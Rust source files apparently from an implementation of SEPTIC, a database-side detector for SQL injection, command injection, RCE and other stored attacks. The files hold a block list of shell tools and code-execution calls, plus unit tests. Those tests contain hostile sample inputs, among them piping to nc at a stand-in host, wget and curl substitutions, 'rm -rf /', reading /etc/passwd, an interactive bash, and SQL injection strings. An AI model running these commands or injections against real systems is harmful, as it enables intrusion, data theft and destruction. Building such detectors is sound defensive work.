    fn name(&self) -> &'static str;

    /// Step 1 — lightweight filter: does the input contain characters
    /// associated with this plugin's attack class? Must be cheap; it gates
    /// the precise check.
    fn quick_filter(&self, input: &str) -> bool;

    /// Step 2 — precise validation, run only when the filter fired.
    fn confirm(&self, input: &str) -> Option<StoredAttack>;

    /// Convenience: the full two-step pipeline.
    fn scan(&self, input: &str) -> Option<StoredAttack> {
        if self.quick_filter(input) {
            self.confirm(input)
        } else {
            None
        }
    }
}

/// The default plugin set (every class the paper's implementation has).
#[must_use]
pub fn default_plugins() -> Vec<Box<dyn Plugin>> {
    vec![
        Box::new(StoredXssPlugin::new()),
        Box::new(RfiPlugin),
        Box::new(LfiPlugin),
        Box::new(OsciPlugin::new()),
        Box::new(RcePlugin),
    ]
}

/// Runs every plugin over every user input; returns the first finding.
#[must_use]
pub fn scan_inputs(plugins: &[Box<dyn Plugin>], inputs: &[String]) -> Option<StoredAttack> {
    for input in inputs {
        for plugin in plugins {
            if let Some(found) = plugin.scan(input) {
                return Some(found);
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn default_set_covers_the_paper_classes() {
        let names: Vec<&str> = default_plugins().iter().map(|p| p.name()).collect();
        for expected in ["stored-xss", "rfi", "lfi", "osci", "rce"] {
            assert!(names.contains(&expected), "missing plugin {expected}");
        }
    }

    #[test]
    fn scan_inputs_returns_first_finding() {
        let plugins = default_plugins();
        let inputs = vec![
            "benign".to_string(),
            "<script>alert(1)</script>".to_string(),
        ];
        let found = scan_inputs(&plugins, &inputs).expect("should find XSS");
        assert_eq!(found.class, "stored XSS");
    }

    #[test]
    fn benign_inputs_are_clean() {
        let plugins = default_plugins();
        let inputs = vec![
            "John O'Neil".to_string(),
            "3 < 4 is a fact".to_string(),
            "lisbon".to_string(),
            "a sentence with dashes - and such".to_string(),
        ];
        assert_eq!(scan_inputs(&plugins, &inputs), None);
    }
}
