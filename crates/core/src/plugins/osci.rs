//! OS command injection (OSCI) and remote code execution (RCE) plugins.

use super::{Plugin, StoredAttack};

/// Shell metacharacters that chain or substitute commands.
const SHELL_META: &[&str] = &["|", ";", "&&", "`", "$(", ">", "<", "||"];

/// Commands whose appearance after a metacharacter signals injection.
const SHELL_COMMANDS: &[&str] = &[
    "cat",
    "ls",
    "rm",
    "cp",
    "mv",
    "wget",
    "curl",
    "nc",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "python",
    "perl",
    "php",
    "ruby",
    "chmod",
    "chown",
    "kill",
    "ping",
    "whoami",
    "id",
    "uname",
    "nmap",
    "powershell",
    "cmd.exe",
    "cmd",
    "echo",
    "touch",
    "mkfifo",
    "sleep",
];

/// PHP/function-call shapes that execute code when evaluated server-side.
const RCE_CALLS: &[&str] = &[
    "eval(",
    "system(",
    "exec(",
    "shell_exec(",
    "passthru(",
    "popen(",
    "proc_open(",
    "assert(",
    "create_function(",
    "call_user_func(",
    "preg_replace(",
    "base64_decode(",
    "include(",
    "include_once(",
    "require(",
    "require_once(",
    "<?php",
    "<?=",
];

/// The OS command injection plugin.
#[derive(Debug, Clone, Copy, Default)]
pub struct OsciPlugin;

impl OsciPlugin {
    /// Creates the plugin.
    #[must_use]
    pub fn new() -> Self {
        OsciPlugin
    }
}

impl Plugin for OsciPlugin {
    fn name(&self) -> &'static str {
        "osci"
    }

    fn quick_filter(&self, input: &str) -> bool {
        SHELL_META.iter().any(|m| input.contains(m))
    }

    fn confirm(&self, input: &str) -> Option<StoredAttack> {
        let lower = input.to_lowercase();
        for meta in SHELL_META {
            let mut search_from = 0;
            while let Some(pos) = lower[search_from..].find(meta) {
                let after = &lower[search_from + pos + meta.len()..];
                let next_word: String = after
                    .trim_start()
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '.' || *c == '/')
                    .collect();
                let cmd = next_word.rsplit('/').next().unwrap_or(&next_word);
                if SHELL_COMMANDS.contains(&cmd) {
                    return Some(StoredAttack::new(
                        "OSCI",
                        format!("shell metachar `{meta}` followed by command `{cmd}`"),
                    ));
                }
                search_from += pos + meta.len();
            }
        }
        None
    }
}

/// The remote code execution plugin.
#[derive(Debug, Clone, Copy, Default)]
pub struct RcePlugin;

impl Plugin for RcePlugin {
    fn name(&self) -> &'static str {
        "rce"
    }

    fn quick_filter(&self, input: &str) -> bool {
        input.contains('(') || input.contains("<?")
    }

    fn confirm(&self, input: &str) -> Option<StoredAttack> {
        let compact: String = input.to_lowercase().replace(char::is_whitespace, "");
        for call in RCE_CALLS {
            if compact.contains(call) {
                return Some(StoredAttack::new(
                    "RCE",
                    format!("code-execution construct `{}`", call.trim_end_matches('(')),
                ));
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn osci_flags_chained_commands() {
        let p = OsciPlugin::new();
        assert!(p.scan("x; cat /etc/passwd").is_some());
        assert!(p.scan("name | nc evil.example 4444").is_some());
        assert!(p.scan("`wget http://evil/x`").is_some());
        assert!(p.scan("$(curl evil)").is_some());
        assert!(p.scan("a && rm -rf /").is_some());
        assert!(p.scan("x;/bin/bash -i").is_some());
    }

    #[test]
    fn osci_passes_prose_with_punctuation() {
        let p = OsciPlugin::new();
        assert_eq!(p.scan("cats; dogs; birds"), None);
        assert_eq!(p.scan("3 > 2 is true"), None);
        assert_eq!(p.scan("R&D department"), None);
        assert_eq!(p.scan("use a semicolon; carefully"), None);
    }

    #[test]
    fn rce_flags_code_shapes() {
        let p = RcePlugin;
        assert!(p.scan("eval($_POST['c'])").is_some());
        assert!(p.scan("system('id')").is_some());
        assert!(p.scan("<?php phpinfo(); ?>").is_some());
        assert!(p.scan("ASSERT ( $x )").is_some()); // whitespace/case evasion
    }

    #[test]
    fn rce_passes_parenthesised_prose() {
        let p = RcePlugin;
        assert_eq!(p.scan("my number (mobile) is 5551234"), None);
        assert_eq!(p.scan("section 4(a) applies"), None);
    }

    #[test]
    fn quick_filters() {
        assert!(!OsciPlugin::new().quick_filter("plain"));
        assert!(!RcePlugin.quick_filter("plain"));
        assert!(RcePlugin.quick_filter("f(x)"));
    }
}
