//! The **ID generator** module.
//!
//! A query identifier is the composition of up to two identifiers
//! (Section II-C2 of the paper):
//!
//! * an optional **external identifier** the application (or its
//!   server-side language engine) ships inside a block comment concatenated
//!   with the query — `/* qid:login-1 */ SELECT …`;
//! * a mandatory **internal identifier** SEPTIC derives from the query
//!   model, to guarantee uniqueness.
//!
//! The external identifier disambiguates structurally identical queries
//! issued from different program points, which matters when the
//! administrator wants per-call-site models.

use std::collections::HashSet;
use std::fmt;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;

use parking_lot::Mutex;
use septic_sql::ItemStack;
use serde::{Deserialize, Serialize};

/// Prefix that marks a block comment as an external query identifier.
/// A prefixed comment is honoured in *any* position; without the prefix,
/// the first comment is accepted as a bare identifier (legacy form).
pub const EXTERNAL_ID_PREFIX: &str = "qid:";

/// A composed query identifier.
///
/// The external part is a hash-consed `Arc<str>` (see [`Interner`]):
/// applications send the same handful of `qid:` strings millions of times,
/// so cloning an identifier on the query hot path is two refcount bumps and
/// a `u64` copy — never a heap allocation.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct QueryId {
    /// Application/SSLE-provided identifier, when present (interned).
    pub external: Option<Arc<str>>,
    /// Structural hash of the query model.
    pub internal: u64,
}

impl fmt::Display for QueryId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.external {
            Some(ext) => write!(f, "{ext}#{:016x}", self.internal),
            None => write!(f, "#{:016x}", self.internal),
        }
    }
}

/// Computes the internal identifier: a 64-bit FNV-1a hash over the
/// **injection-invariant head** of the item stack.
///
/// The head is the leading run of nodes that the *programmer* fully
/// controls and that precede every user-data position in the lowering
/// order: the `FROM` tables / `JOIN`s / projected fields of a `SELECT`,
/// the target table and column list of an `INSERT`, the target table and
/// first assigned column of an `UPDATE`, the target table of a `DELETE`.
/// Everything an injection can add (extra conditions, `UNION` arms,
/// piggybacked statements, extra assignments) appears *after* the head, so
/// an attacked query keeps the identifier of the benign query it mutates —
/// which is exactly what lets the detector find the learned model and flag
/// the mismatch instead of mistaking the attack for a brand-new query.
///
/// Structurally head-identical but distinct program queries (same table and
/// projection, different `WHERE` shape) collide on the internal identifier;
/// the external identifier exists to disambiguate them (Section II-C2 —
/// this is why the instrumented SSLE support exists). Queries with an empty
/// head (`SELECT 1`) fall back to hashing the full canonical stack.
#[must_use]
pub fn internal_id(stack: &ItemStack) -> u64 {
    use septic_sql::ItemTag;
    let head: Vec<&septic_sql::Item> = stack
        .items()
        .iter()
        .take_while(|i| {
            matches!(
                i.tag,
                ItemTag::FromTable
                    | ItemTag::JoinItem
                    | ItemTag::SelectField
                    | ItemTag::InsertTable
                    | ItemTag::InsertField
                    | ItemTag::UpdateTable
                    | ItemTag::UpdateField
                    | ItemTag::DeleteTable
                    | ItemTag::DdlItem
            )
        })
        .collect();
    let mut bytes = Vec::with_capacity(head.len().max(stack.len()) * 16);
    if head.is_empty() {
        return structural_hash(stack);
    }
    for item in head {
        item.canonical_bytes(&mut bytes);
    }
    fnv1a(&bytes)
}

/// Hash of the *entire* canonical stack (data payloads contribute only
/// their type). Used as the fallback for head-less queries and by the
/// identifier ablation harness.
#[must_use]
pub fn structural_hash(stack: &ItemStack) -> u64 {
    let mut bytes = Vec::with_capacity(stack.len() * 16);
    for item in stack.items() {
        item.canonical_bytes(&mut bytes);
    }
    fnv1a(&bytes)
}

/// Extracts the external identifier from the query's comments. Borrows
/// from the comment — the caller decides whether to intern or copy it.
///
/// An explicit `qid:`-prefixed comment wins regardless of position:
/// SSLEs may emit the identifier after a license/hint comment, and an
/// attack payload can smuggle extra comments into the query, so relying
/// on comment *order* would make the training-time and prevention-time
/// identifiers diverge (the model lookup would miss and the attack would
/// be learned as a new benign query). Whitespace inside the comment body
/// (`/*  qid: login-1  */`) is normalized away for the same reason.
///
/// When no comment carries the prefix, the legacy convention applies:
/// the first non-empty comment, trimmed, is the identifier.
#[must_use]
pub fn external_id(comments: &[String]) -> Option<&str> {
    for comment in comments {
        if let Some(id) = comment.trim().strip_prefix(EXTERNAL_ID_PREFIX) {
            let id = id.trim();
            if !id.is_empty() {
                return Some(id);
            }
        }
    }
    let first = comments.first()?.trim();
    // Reaching here with a `qid:` prefix means the id part was empty.
    if first.is_empty() || first.starts_with(EXTERNAL_ID_PREFIX) {
        return None;
    }
    Some(first)
}

/// Hash-consing string interner for external identifiers.
///
/// A deployed application issues the same small set of `qid:` strings over
/// and over; interning them means every [`QueryId`] built on the hot path
/// shares one allocation per distinct identifier, and cloning an id is a
/// refcount bump. The interner is append-only and bounded in practice by
/// the number of program points in the protected applications.
#[derive(Debug, Default)]
pub struct Interner {
    strings: Mutex<HashSet<Arc<str>>>,
}

impl Interner {
    /// Creates an empty interner.
    #[must_use]
    pub fn new() -> Self {
        Interner::default()
    }

    /// Returns the canonical `Arc<str>` for `s`, allocating only the first
    /// time a given string is seen.
    #[must_use]
    pub fn intern(&self, s: &str) -> Arc<str> {
        let mut strings = self.strings.lock();
        if let Some(existing) = strings.get(s) {
            return existing.clone();
        }
        let arc: Arc<str> = Arc::from(s);
        strings.insert(arc.clone());
        arc
    }

    /// Number of distinct strings interned so far.
    #[must_use]
    pub fn len(&self) -> usize {
        self.strings.lock().len()
    }

    /// True when nothing has been interned.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.strings.lock().is_empty()
    }
}

/// The ID generator: composes external and internal identifiers.
///
/// Shared by reference from every session thread — the ablation switch is
/// atomic and the interner uses interior mutability, so no outer lock is
/// needed on the query path.
#[derive(Debug)]
pub struct IdGenerator {
    /// When false, external identifiers are ignored (ablation switch).
    use_external: AtomicBool,
    interner: Interner,
}

impl Default for IdGenerator {
    fn default() -> Self {
        IdGenerator::new()
    }
}

impl IdGenerator {
    /// Creates a generator that honours external identifiers.
    #[must_use]
    pub fn new() -> Self {
        Self::with_use_external(true)
    }

    /// Creates a generator with the ablation switch preset.
    #[must_use]
    pub fn with_use_external(on: bool) -> Self {
        IdGenerator {
            use_external: AtomicBool::new(on),
            interner: Interner::new(),
        }
    }

    /// Whether external identifiers are honoured.
    #[must_use]
    pub fn use_external(&self) -> bool {
        self.use_external.load(Ordering::Relaxed)
    }

    /// Flips the ablation switch.
    pub fn set_use_external(&self, on: bool) {
        self.use_external.store(on, Ordering::Relaxed);
    }

    /// Distinct external identifiers interned so far.
    #[must_use]
    pub fn interned_externals(&self) -> usize {
        self.interner.len()
    }

    /// Generates the query identifier for a validated query.
    #[must_use]
    pub fn generate(&self, stack: &ItemStack, comments: &[String]) -> QueryId {
        QueryId {
            external: if self.use_external() {
                external_id(comments).map(|s| self.interner.intern(s))
            } else {
                None
            },
            internal: internal_id(stack),
        }
    }
}

fn fnv1a(bytes: &[u8]) -> u64 {
    let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
    for &b in bytes {
        hash ^= u64::from(b);
        hash = hash.wrapping_mul(0x0000_0100_0000_01b3);
    }
    hash
}

#[cfg(test)]
mod tests {
    use super::*;
    use septic_sql::{items, parse};

    fn qs(sql: &str) -> ItemStack {
        items::lower_all(&parse(sql).expect("parse").statements)
    }

    #[test]
    fn internal_id_ignores_literals() {
        let a = internal_id(&qs("SELECT * FROM t WHERE x = 'aaa'"));
        let b = internal_id(&qs("SELECT * FROM t WHERE x = 'bbb'"));
        // WHERE-clause fields are *not* part of the head: substituting a
        // field is a mimicry attack the detector must see (same model).
        let c = internal_id(&qs("SELECT * FROM t WHERE y = 'aaa'"));
        assert_eq!(a, b);
        assert_eq!(a, c);
    }

    #[test]
    fn internal_id_is_invariant_under_injection_payloads() {
        // The whole point of the head-hash: an attacked query keeps the
        // identifier of the benign query it mutates, so the model lookup
        // succeeds and the detector can compare structures.
        let plain = internal_id(&qs("SELECT a FROM t WHERE id = 1"));
        let union = internal_id(&qs("SELECT a FROM t WHERE id = 1 UNION SELECT b FROM u"));
        let taut = internal_id(&qs("SELECT a FROM t WHERE id = 1 OR 1 = 1"));
        let piggy = internal_id(&qs("SELECT a FROM t WHERE id = 1; DROP TABLE t"));
        assert_eq!(plain, union);
        assert_eq!(plain, taut);
        assert_eq!(plain, piggy);
    }

    #[test]
    fn internal_id_distinguishes_program_queries() {
        let a = internal_id(&qs("SELECT a FROM t WHERE id = 1"));
        let b = internal_id(&qs("SELECT b FROM t WHERE id = 1"));
        let c = internal_id(&qs("SELECT a FROM u WHERE id = 1"));
        let d = internal_id(&qs("INSERT INTO t (a) VALUES ('x')"));
        assert_ne!(a, b);
        assert_ne!(a, c);
        assert_ne!(a, d);
    }

    #[test]
    fn fromless_selects_keep_distinct_ids() {
        // `SELECT 1` still has a head (its SELECT_FIELD label), so
        // constant probes do not all collapse onto one identifier.
        let a = internal_id(&qs("SELECT 1"));
        let b = internal_id(&qs("SELECT VERSION()"));
        assert_ne!(a, b);
    }

    #[test]
    fn structural_hash_covers_whole_stack() {
        let plain = structural_hash(&qs("SELECT a FROM t WHERE id = 1"));
        let taut = structural_hash(&qs("SELECT a FROM t WHERE id = 1 OR 1 = 1"));
        assert_ne!(plain, taut);
    }

    #[test]
    fn external_id_parsing() {
        assert_eq!(external_id(&["qid:login-1".into()]), Some("login-1"));
        assert_eq!(external_id(&["free text".into()]), Some("free text"));
        assert_eq!(external_id(&[]), None);
        assert_eq!(external_id(&["  ".into()]), None);
        assert_eq!(external_id(&["qid:  ".into()]), None);
    }

    #[test]
    fn external_id_found_in_any_comment() {
        // The SSLE may emit the id after a hint/license comment…
        assert_eq!(
            external_id(&["NO_CACHE".into(), "qid:login-1".into()]),
            Some("login-1")
        );
        // …and an empty first comment must not mask it.
        assert_eq!(
            external_id(&["  ".into(), "qid:page-2".into()]),
            Some("page-2")
        );
        // An explicit qid: beats free text regardless of order.
        assert_eq!(
            external_id(&["note".into(), "qid:x".into(), "qid:y".into()]),
            Some("x")
        );
    }

    #[test]
    fn external_id_whitespace_inside_comment_is_normalized() {
        assert_eq!(external_id(&["  qid:login-1  ".into()]), Some("login-1"));
        assert_eq!(external_id(&["qid:  login-1".into()]), Some("login-1"));
        assert_eq!(external_id(&["  free text  ".into()]), Some("free text"));
    }

    #[test]
    fn injected_comments_do_not_shift_the_external_id() {
        // Prevention-time query carrying an attacker-smuggled comment must
        // resolve to the same id the clean training-time query did —
        // otherwise the model lookup misses and the attack is learned as a
        // brand-new benign query.
        let trained = external_id(&["qid:tickets".into()]).map(str::to_string);
        let attacked = external_id(&["qid:tickets".into(), "evil".into()]).map(str::to_string);
        assert_eq!(trained, attacked);
        assert_eq!(trained.as_deref(), Some("tickets"));
    }

    #[test]
    fn multi_comment_queries_resolve_through_the_generator() {
        // End to end through parse → lower → generate: the id arrives in
        // the *second* comment with internal whitespace.
        let parsed =
            parse("/* hint */ /*  qid: conf-x  */ SELECT a FROM t WHERE id = 1").expect("parse");
        let stack = items::lower_all(&parsed.statements);
        let id = IdGenerator::new().generate(&stack, &parsed.comments);
        assert_eq!(id.external.as_deref(), Some("conf-x"));
    }

    #[test]
    fn generator_composes_both_parts() {
        let stack = qs("SELECT 1");
        let id = IdGenerator::new().generate(&stack, &["qid:x".to_string()]);
        assert_eq!(id.external.as_deref(), Some("x"));
        assert_eq!(id.internal, internal_id(&stack));
        let no_ext = IdGenerator::with_use_external(false).generate(&stack, &["qid:x".to_string()]);
        assert_eq!(no_ext.external, None);
    }

    #[test]
    fn interner_hash_conses_external_ids() {
        let gen = IdGenerator::new();
        let stack = qs("SELECT a FROM t WHERE id = 1");
        let a = gen.generate(&stack, &["qid:page".to_string()]);
        let b = gen.generate(&stack, &["qid:page".to_string()]);
        let (ea, eb) = (a.external.unwrap(), b.external.unwrap());
        // Same identifier → same allocation, not merely equal strings.
        assert!(Arc::ptr_eq(&ea, &eb));
        assert_eq!(gen.interned_externals(), 1);
        let _ = gen.generate(&stack, &["qid:other".to_string()]);
        assert_eq!(gen.interned_externals(), 2);
    }

    #[test]
    fn same_structure_different_external_ids_are_distinct() {
        let stack = qs("SELECT a FROM t WHERE id = 1");
        let gen = IdGenerator::new();
        let a = gen.generate(&stack, &["qid:page-a".to_string()]);
        let b = gen.generate(&stack, &["qid:page-b".to_string()]);
        assert_ne!(a, b);
        assert_eq!(a.internal, b.internal);
    }

    #[test]
    fn display_format() {
        let id = QueryId {
            external: Some("login".into()),
            internal: 0xabcd,
        };
        assert_eq!(id.to_string(), "login#000000000000abcd");
        let id = QueryId {
            external: None,
            internal: 1,
        };
        assert_eq!(id.to_string(), "#0000000000000001");
    }
}
