//! The **attack detector** module — SQLI detection.
//!
//! The paper's two-step algorithm (Section II-C3):
//!
//! 1. **structural verification** — the number of nodes of the query
//!    structure (QS) and the query model (QM) must be equal;
//! 2. **syntactic verification** — each QS node must match the
//!    corresponding QM node (runs only if step 1 passed).
//!
//! A failure in step 1 flags a *structural* attack (e.g. a second-order
//! injection that commented out part of the query, Figure 3); a failure in
//! step 2 flags a *syntax-mimicry* attack (same arity, different node
//! types, Figure 4).

use std::fmt;

use septic_sql::ItemStack;
use serde::{Deserialize, Serialize};

use crate::model::QueryModel;

/// Which step of the SQLI algorithm flagged the query. Logged by the paper
/// ("it also logs if they are structural or syntactical, i.e., in which
/// step of the SQLI detection algorithm discovered the attack").
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum SqliKind {
    /// Step 1: node counts differ.
    Structural {
        /// Node count the model expects.
        expected: usize,
        /// Node count observed in the incoming query.
        observed: usize,
    },
    /// Step 2: node `index` (from the bottom of the stack) differs.
    Mimicry {
        /// Index of the first mismatching node (bottom-up).
        index: usize,
        /// The model node at that position, rendered.
        expected: String,
        /// The observed node, rendered.
        observed: String,
    },
}

impl fmt::Display for SqliKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SqliKind::Structural { expected, observed } => write!(
                f,
                "structural (step 1): model has {expected} nodes, query has {observed}"
            ),
            SqliKind::Mimicry {
                index,
                expected,
                observed,
            } => write!(
                f,
                "syntactic (step 2): node {index} expected [{expected}] observed [{observed}]"
            ),
        }
    }
}

/// Outcome of comparing a QS against a QM.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SqliOutcome {
    /// The structure matches the learned model.
    Clean,
    /// An injection was detected.
    Attack(SqliKind),
}

impl SqliOutcome {
    /// True when an attack was flagged.
    #[must_use]
    pub fn is_attack(&self) -> bool {
        matches!(self, SqliOutcome::Attack(_))
    }
}

/// Runs the two-step SQLI detection algorithm.
///
/// # Examples
///
/// ```
/// use septic::detector::{detect_sqli, SqliOutcome};
/// use septic::model::QueryModel;
/// use septic_sql::{items, parse};
///
/// let learned = items::lower_all(
///     &parse("SELECT * FROM t WHERE a = 'benign' AND b = 1")?.statements,
/// );
/// let model = QueryModel::from_structure(&learned);
///
/// // Same structure, different literals: clean.
/// let qs = items::lower_all(&parse("SELECT * FROM t WHERE a = 'other' AND b = 2")?.statements);
/// assert_eq!(detect_sqli(&qs, &model), SqliOutcome::Clean);
///
/// // Tautology changes the structure: attack.
/// let qs = items::lower_all(&parse("SELECT * FROM t WHERE a = '' OR 1 = 1")?.statements);
/// assert!(detect_sqli(&qs, &model).is_attack());
/// # Ok::<(), septic_sql::ParseError>(())
/// ```
#[must_use]
pub fn detect_sqli(qs: &ItemStack, model: &QueryModel) -> SqliOutcome {
    // Step 1: structural verification.
    if qs.len() != model.len() {
        return SqliOutcome::Attack(SqliKind::Structural {
            expected: model.len(),
            observed: qs.len(),
        });
    }
    // Step 2: syntactic verification, node by node.
    for (index, (m, q)) in model.items().iter().zip(qs.items()).enumerate() {
        if !QueryModel::node_matches(m, q) {
            return SqliOutcome::Attack(SqliKind::Mimicry {
                index,
                expected: m.to_string(),
                observed: q.to_string(),
            });
        }
    }
    SqliOutcome::Clean
}

/// Runs the two-step SQLI algorithm through a model's **compiled
/// comparison program** (the bytecode-VM hot path) and renders the same
/// outcome [`detect_sqli`] would produce.
///
/// The program reports positions only; the mimicry node strings are
/// rendered here from the model and structure — off the hot path, and
/// through the very same `Item` `Display` the walker uses, so the two
/// paths are byte-identical (the differential conformance suite holds
/// them to that).
#[must_use]
pub fn detect_sqli_vm(
    program: &septic_vm::Program,
    qs: &ItemStack,
    model: &QueryModel,
) -> SqliOutcome {
    match septic_vm::run_model(program, qs.items()) {
        septic_vm::Verdict::Clean => SqliOutcome::Clean,
        septic_vm::Verdict::Structural { expected, observed } => {
            SqliOutcome::Attack(SqliKind::Structural { expected, observed })
        }
        septic_vm::Verdict::Mimicry { index } => SqliOutcome::Attack(SqliKind::Mimicry {
            index,
            expected: model
                .items()
                .get(index)
                .map(ToString::to_string)
                .unwrap_or_default(),
            observed: qs
                .items()
                .get(index)
                .map(ToString::to_string)
                .unwrap_or_default(),
        }),
    }
}

/// Ablation variant: structural verification only (step 1). Used by the
/// detector benchmarks to quantify what the syntactic step adds.
#[must_use]
pub fn detect_sqli_structural_only(qs: &ItemStack, model: &QueryModel) -> SqliOutcome {
    if qs.len() != model.len() {
        return SqliOutcome::Attack(SqliKind::Structural {
            expected: model.len(),
            observed: qs.len(),
        });
    }
    SqliOutcome::Clean
}

#[cfg(test)]
mod tests {
    use super::*;
    use septic_sql::{items, parse};

    fn qs(sql: &str) -> ItemStack {
        items::lower_all(&parse(sql).expect("parse").statements)
    }

    fn model(sql: &str) -> QueryModel {
        QueryModel::from_structure(&qs(sql))
    }

    const TICKETS: &str = "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234";

    #[test]
    fn benign_variants_are_clean() {
        let m = model(TICKETS);
        for sql in [
            "SELECT * FROM tickets WHERE reservID = 'ZZ99' AND creditCard = 1",
            "SELECT * FROM tickets WHERE reservID = '' AND creditCard = 0",
        ] {
            assert_eq!(detect_sqli(&qs(sql), &m), SqliOutcome::Clean, "{sql}");
        }
    }

    #[test]
    fn paper_second_order_attack_is_structural() {
        // Figure 3: `ID34FG'-- ` collapses the WHERE clause.
        let m = model(TICKETS);
        let attacked = qs("SELECT * FROM tickets WHERE reservID = 'ID34FG'");
        let SqliOutcome::Attack(SqliKind::Structural { expected, observed }) =
            detect_sqli(&attacked, &m)
        else {
            panic!("expected structural detection");
        };
        assert_eq!(expected, 9);
        assert_eq!(observed, 5);
    }

    #[test]
    fn paper_mimicry_attack_is_syntactic() {
        // Figure 4: `ID34FG' AND 1=1-- ` reproduces the arity.
        let m = model(TICKETS);
        let attacked = qs("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1 = 1");
        let SqliOutcome::Attack(SqliKind::Mimicry {
            expected, observed, ..
        }) = detect_sqli(&attacked, &m)
        else {
            panic!("expected syntactic detection");
        };
        assert!(expected.contains("creditcard"), "expected: {expected}");
        assert!(observed.contains("INT_ITEM"), "observed: {observed}");
    }

    #[test]
    fn structural_only_misses_mimicry() {
        let m = model(TICKETS);
        let attacked = qs("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1 = 1");
        assert_eq!(
            detect_sqli_structural_only(&attacked, &m),
            SqliOutcome::Clean
        );
        assert!(detect_sqli(&attacked, &m).is_attack());
    }

    #[test]
    fn union_injection_is_structural() {
        let m = model("SELECT name FROM users WHERE id = 1");
        let attacked = qs("SELECT name FROM users WHERE id = 1 UNION SELECT password FROM users");
        assert!(matches!(
            detect_sqli(&attacked, &m),
            SqliOutcome::Attack(SqliKind::Structural { .. })
        ));
    }

    #[test]
    fn piggyback_is_structural() {
        let m = model("SELECT name FROM users WHERE id = 1");
        let attacked = qs("SELECT name FROM users WHERE id = 1; DROP TABLE users");
        assert!(detect_sqli(&attacked, &m).is_attack());
    }

    #[test]
    fn field_substitution_is_mimicry() {
        // Same arity but a different column smuggled in.
        let m = model("SELECT name FROM users WHERE name = 'x'");
        let attacked = qs("SELECT name FROM users WHERE password = 'x'");
        assert!(matches!(
            detect_sqli(&attacked, &m),
            SqliOutcome::Attack(SqliKind::Mimicry { .. })
        ));
    }

    #[test]
    fn string_vs_int_literal_is_mimicry() {
        // `WHERE a = 'x'` learned; `WHERE a = 0` probes type juggling.
        let m = model("SELECT * FROM t WHERE a = 'x'");
        let attacked = qs("SELECT * FROM t WHERE a = 0");
        assert!(matches!(
            detect_sqli(&attacked, &m),
            SqliOutcome::Attack(SqliKind::Mimicry { .. })
        ));
    }

    // --- degenerate inputs: the detector must never panic on them ---

    #[test]
    fn empty_qs_against_empty_model_is_clean() {
        let empty_model = QueryModel::from_structure(&ItemStack::new());
        assert_eq!(
            detect_sqli(&ItemStack::new(), &empty_model),
            SqliOutcome::Clean
        );
        assert_eq!(
            detect_sqli_structural_only(&ItemStack::new(), &empty_model),
            SqliOutcome::Clean
        );
    }

    #[test]
    fn empty_qs_against_nonempty_model_is_structural() {
        let m = model(TICKETS);
        let SqliOutcome::Attack(SqliKind::Structural { expected, observed }) =
            detect_sqli(&ItemStack::new(), &m)
        else {
            panic!("expected structural detection");
        };
        assert_eq!(expected, 9);
        assert_eq!(observed, 0);
    }

    #[test]
    fn zero_length_model_against_nonempty_qs_is_structural() {
        let empty_model = QueryModel::from_structure(&ItemStack::new());
        let observed_qs = qs(TICKETS);
        let SqliOutcome::Attack(SqliKind::Structural { expected, observed }) =
            detect_sqli(&observed_qs, &empty_model)
        else {
            panic!("expected structural detection");
        };
        assert_eq!(expected, 0);
        assert_eq!(observed, 9);
        assert!(detect_sqli_structural_only(&observed_qs, &empty_model).is_attack());
    }

    #[test]
    fn all_data_node_stacks_compare_by_tag_only() {
        use septic_sql::items::{Item, ItemData, ItemTag};
        // A pathological stack with no structure nodes at all: every node
        // is DATA. Training blanks the payloads, so any same-tag stack is
        // clean and a tag flip is mimicry — with no panics anywhere.
        let data_stack = |n: i64, s: &str| {
            ItemStack::from_iter([
                Item {
                    tag: ItemTag::IntItem,
                    data: ItemData::Int(n),
                },
                Item {
                    tag: ItemTag::StringItem,
                    data: ItemData::Text(s.to_string()),
                },
            ])
        };
        let m = QueryModel::from_structure(&data_stack(1, "a"));
        assert_eq!(detect_sqli(&data_stack(999, "zzz"), &m), SqliOutcome::Clean);
        let flipped = ItemStack::from_iter([
            Item {
                tag: ItemTag::StringItem,
                data: ItemData::Text("1".to_string()),
            },
            Item {
                tag: ItemTag::StringItem,
                data: ItemData::Text("a".to_string()),
            },
        ]);
        assert!(matches!(
            detect_sqli(&flipped, &m),
            SqliOutcome::Attack(SqliKind::Mimicry { index: 0, .. })
        ));
    }

    #[test]
    fn vm_and_walker_agree_on_every_outcome() {
        // The compiled-program path must reproduce the walker verdict
        // *including* the rendered mimicry node strings.
        let m = model(TICKETS);
        let program = septic_vm::compile_model(m.items());
        for sql in [
            "SELECT * FROM tickets WHERE reservID = 'ZZ99' AND creditCard = 1",
            "SELECT * FROM tickets WHERE reservID = 'ID34FG'",
            "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1 = 1",
            "SELECT * FROM tickets WHERE reservID = 'ID34FG' OR 1 = 1",
            "SELECT name FROM users WHERE id = 1; DROP TABLE users",
            TICKETS,
        ] {
            let stack = qs(sql);
            assert_eq!(
                detect_sqli_vm(&program, &stack, &m),
                detect_sqli(&stack, &m),
                "{sql}"
            );
        }
    }

    #[test]
    fn displays_name_the_algorithm_step() {
        let k = SqliKind::Structural {
            expected: 9,
            observed: 5,
        };
        assert!(k.to_string().contains("step 1"));
        let k = SqliKind::Mimicry {
            index: 3,
            expected: "a".into(),
            observed: "b".into(),
        };
        assert!(k.to_string().contains("step 2"));
    }
}
