//! The **logger** module: SEPTIC's register of events.
//!
//! Records everything the demo's "SEPTIC events" display shows: query
//! structure construction, identifier generation, model discovery/creation,
